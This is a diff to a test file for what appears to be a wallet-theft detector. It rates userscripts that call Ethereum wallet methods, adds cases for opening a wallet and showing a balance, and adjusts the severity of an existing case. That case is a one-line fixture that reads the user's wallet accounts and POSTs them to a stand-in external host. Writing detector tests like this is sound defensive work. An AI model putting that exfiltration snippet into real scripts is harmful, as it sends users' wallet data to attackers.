@@ -18,6 +18,11 @@ describe("wallet-theft", () => {
 			userscript(["match https://shop.example/*"], `ethereum.request({method:"personal_sign",params:["hello"]})`),
 		],
 		[
+			"a wallet that is opened",
+			["medium 5"],
+			userscript(["match https://shop.example/*"], `ethereum.request({method:"eth_requestAccounts"})`),
+		],
+		[
 			"a swapped address on the page",
 			["critical 5"],
 			userscript(
@@ -27,7 +32,7 @@ describe("wallet-theft", () => {
 		],
 		[
 			"accounts sent away",
-			["medium 5", "critical 5"],
+			["critical 5"],
 			userscript(
 				["match https://shop.example/*"],
 				`ethereum.request({method:"eth_accounts"}).then(a=>fetch("https://c.stranger.test/",{method:"POST",body:JSON.stringify(a)}))`,
@@ -38,6 +43,13 @@ describe("wallet-theft", () => {
 	});
 
 	test.each([
+		[
+			"a balance that is shown",
+			userscript(
+				["match https://shop.example/*"],
+				`ethereum.request({method:"eth_getBalance",params:["x","latest"]}).then(b=>{document.title=b})`,
+			),
+		],
 		[
 			"a button that connects",
 			userscript(
